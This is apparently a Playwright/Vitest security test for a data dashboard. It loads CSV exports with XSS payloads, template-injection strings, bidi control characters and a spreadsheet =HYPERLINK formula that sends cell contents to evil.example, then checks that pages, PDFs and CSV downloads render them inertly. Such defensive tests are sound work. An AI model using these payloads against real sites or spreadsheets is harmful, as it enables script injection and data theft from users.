// Exports that carry HTML, SVG, addresses of scripts, template syntax, turned text and formulas: on every page they are text and nothing else.
import {mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from "node:fs";
import {tmpdir} from "node:os";
import path from "node:path";
import type {Browser, BrowserContext, Page} from "playwright-core";
import {afterAll, beforeAll, expect, inject, test} from "vitest";
import {navigation} from "../../observablehq.config.ts";
import {serve} from "../../server/index.ts";
import {frontdoor} from "../setup.ts";
import {launch} from "./launch.ts";

const {site} = inject("example");

const hostile = [
  `<img src=x onerror="window.hit='img';alert('img')">`,
  `"><svg/onload=alert('svg')><script>window.hit='script'</script>`,
  `javascript:alert('address')`,
  "{{7*7}} ${alert('template')} <%= 7*7 %>",
  `=HYPERLINK("http://evil.example/?"&A1,"see")`,
  `\u202egnp.exe\u2066 \u0007bell`,
  `</title></script></style><iframe srcdoc="<script>parent.hit='frame'</script>"></iframe>`,
  `' autofocus onfocus=alert('attribute') x='`
];
const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;

let home: string;
let browser: Browser;
let context: BrowserContext;
let server: {url: string; close: () => Promise<void>};

beforeAll(async () => {
  home = mkdtempSync(path.join(tmpdir(), "frontdoor-hostile-"));
  const [exports, store] = [path.join(home, "exports"), path.join(home, "store")];
  mkdirSync(exports);
  const pick = (i: number) => hostile[i % hostile.length]!;
  const days = Array.from({length: 24 * 12}, (_, i) => ({day: `${String(1 + ((i * 2) % 28)).padStart(2, "0")}/${String(1 + (Math.floor(i / 12) % 12)).padStart(2, "0")}/${2024 + Math.floor(i / 144)}`, i}));
  const contacts = days.map(({day, i}) => [`C${i}${i % 9 ? "" : pick(i)}`, i % 7 ? `8800${i}` : pick(i), `${day} 09:00`, i % 3 ? "Police" : pick(i), i % 5 ? "Green" : pick(i + 1), `${day} 15:00`, i % 4 ? "Referral" : pick(i + 2), pick(i)].map(cell).join(","));
  const headed = (heading: string) => `Contact ID,Person ID,Contact Date,Contact Source,Initial RAG,Decision,Outcome,Team,${cell(heading)}`;
  writeFileSync(path.join(exports, `mash_contacts_<img src=x onerror=alert('file')>_2025-12-31.csv`.replaceAll(/[<>]/g, (mark) => (process.platform === "win32" ? "" : mark))), `${headed(hostile[0]!)}\n${contacts.map((line) => `${line},x`).join("\n")}\nC1,too,few\n`);
  const referrals = days.map(({day, i}) => [`R${i}`, `8800${i}`, `${day}`, i % 2 ? "Police" : pick(i + 3), pick(i + 1)].map(cell).join(","));
  writeFileSync(path.join(exports, "referrals_2025-12-31.csv"), `Referral ID,Person ID,Referral Date,Referral Source,Team\n${referrals.join("\n")}\n`);
  const children = days.map(({i}) => [`8800${i}`, pick(i), "01/05/2016", "Female", pick(i + 4)].map(cell).join(","));
  writeFileSync(path.join(exports, "children_2025-12-31.csv"), `Child ID,Locality,Date of birth,Sex,Ethnicity\n${children.join("\n")}\n`);
  const done = frontdoor("refresh", "--exports", exports, "--store", store);
  if (!done.out.includes("Published run")) throw new Error(done.out + done.err);
  // nothing that moves a cursor or turns a line reaches the terminal
  expect([..."\u202e\u2066\u0007\u001b"].filter((mark) => (done.out + done.err).includes(mark))).toEqual([]);
  browser = await launch();
  server = await serve({store, site, port: 0, log: () => {}});
  context = await browser.newContext({viewport: {width: 1280, height: 900}, acceptDownloads: true});
  await context.addInitScript(() => addEventListener("securitypolicyviolation", (event) => ((window as unknown as {violations: string[]}).violations ??= []).push(`${event.violatedDirective} ${event.blockedURI}`)));
  // the printed address works once
  const first = await context.newPage();
  await first.goto(server.url);
  await first.close();
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
  rmSync(home, {recursive: true, force: true});
});

/** A signed-in page that notes whatever a hostile value could set off. */
async function watched(): Promise<{page: Page; alarms: string[]}> {
  const page = await context.newPage();
  const alarms: string[] = [];
  page.on("dialog", (dialog) => {
    alarms.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("console", (m) => void (/content security policy|refused to/i.test(m.text()) && alarms.push(`policy: ${m.text()}`)));
  page.on("pageerror", (error) => void alarms.push(`error: ${error.message}`));
  page.on("request", (request) => void (!request.url().startsWith(new URL(server.url).origin) && !/^(data|blob|about):/.test(request.url()) && alarms.push(`request: ${request.url()}`)));
  page.on("popup", (popup) => void alarms.push(`window: ${popup.url()}`));
  return {page, alarms};
}

/** What stands on the page that only a hostile value could have put there. */
const planted = (page: Page) =>
  page.evaluate(() => ({
    hit: (window as unknown as {hit?: string}).hit ?? null,
    violations: (window as unknown as {violations?: string[]}).violations ?? [],
    elements: [...document.querySelectorAll("img[src='x'], iframe, object, embed, [onload], [onerror], [onfocus], main script")].map((element) => element.outerHTML.slice(0, 80)),
    links: [...document.querySelectorAll("a[href]")].map((a) => a.getAttribute("href")!).filter((href) => /^\s*(javascript|data|vbscript):/i.test(href))
  }));
const clean = {hit: null, violations: [], elements: [], links: []};

const pages = [...navigation.flatMap((g) => g.pages.map((p) => p.path)), "/measure?id=C1", "/measure?id=R1&team=x", "/qa/cases?measure=C1&from=2024-01&to=2025-12", `/qa/cases?measure=C1&from=2024-01&to=2025-12&team=${encodeURIComponent(hostile[0]!)}`, `/?period=${encodeURIComponent(hostile[1]!)}&team=${encodeURIComponent(hostile[7]!)}`, `/measure?id=${encodeURIComponent(hostile[0]!)}`];

test.each(pages)("nothing runs, opens or leaves on %s", async (address) => {
  const {page, alarms} = await watched();
  await page.goto(new URL(address, server.url).href);
  await page.waitForLoadState("networkidle");
  await page.waitForTimeout(300);
  // the page itself, not a refusal
  expect(await page.locator("nav#navigation").count()).toBe(1);
  await page.evaluate(() => {
    for (const button of document.querySelectorAll("button")) if (button.textContent === "Show table") button.click();
  });
  expect([address, alarms, await planted(page)]).toEqual([address, [], clean]);
  await page.close();
});

test("the values are there to read, as text: in the list of cases, the filters and the refresh page", async () => {
  const {page} = await watched();
  await page.goto(new URL("/qa/cases?measure=C1&from=2024-01&to=2025-12", server.url).href);
  await page.waitForFunction(() => document.querySelector("main")!.textContent!.includes("<img src=x onerror="), undefined, {timeout: 20_000});
  await page.goto(new URL("/data/refresh", server.url).href);
  await page.waitForFunction(() => document.querySelector("main")!.textContent!.includes("onerror="), undefined, {timeout: 20_000});
  await page.goto(new URL("/measure?id=C1", server.url).href);
  await page.waitForFunction(() => document.querySelector("main")!.textContent!.includes("<svg/onload="), undefined, {timeout: 20_000});
  expect(await planted(page)).toEqual(clean);
  await page.close();
});

test("a banner says how the data may be handled, and that it is open on this computer only", async () => {
  const {page} = await watched();
  await page.goto(new URL("/", server.url).href);
  await page.waitForFunction(() => document.getElementById("marking")!.textContent === "OFFICIAL-SENSITIVE · open on this computer only", undefined, {timeout: 20_000});
  await page.close();
});

test("a page on paper and every CSV it offers hold them as text", async () => {
  const {page, alarms} = await watched();
  await page.goto(new URL("/measure?id=C1", server.url).href);
  await page.waitForLoadState("networkidle");
  const pdf = (await page.pdf()).toString("latin1");
  expect([...pdf.matchAll(/\/(JavaScript|JS|Launch|OpenAction|EmbeddedFile)\b/g)].map(([found]) => found)).toEqual([]);
  const links = [...pdf.matchAll(/\/URI \(([^)]*)/g)].map(([, link]) => link!);
  expect(links.length).toBeGreaterThan(0);
  expect(links.filter((link) => !link.startsWith(new URL(server.url).origin))).toEqual([]);
  const buttons = await page.getByRole("button", {name: "Download CSV"}).all();
  expect(buttons.length).toBeGreaterThan(0);
  let groups = 0;
  for (const button of buttons) {
    const [download] = await Promise.all([page.waitForEvent("download"), button.click()]);
    const text = readFileSync(await download.path(), "utf8");
    expect(download.suggestedFilename()).toMatch(/^[\w.-]+\.csv$/);
    if (text.includes("HYPERLINK")) groups += 1;
    expect(text).not.toMatch(/(^|[,\r\n]"?)[=@][A-Za-z]/m);
  }
  expect(groups).toBeGreaterThan(0);
  expect(alarms).toEqual([]);
  await page.close();
});
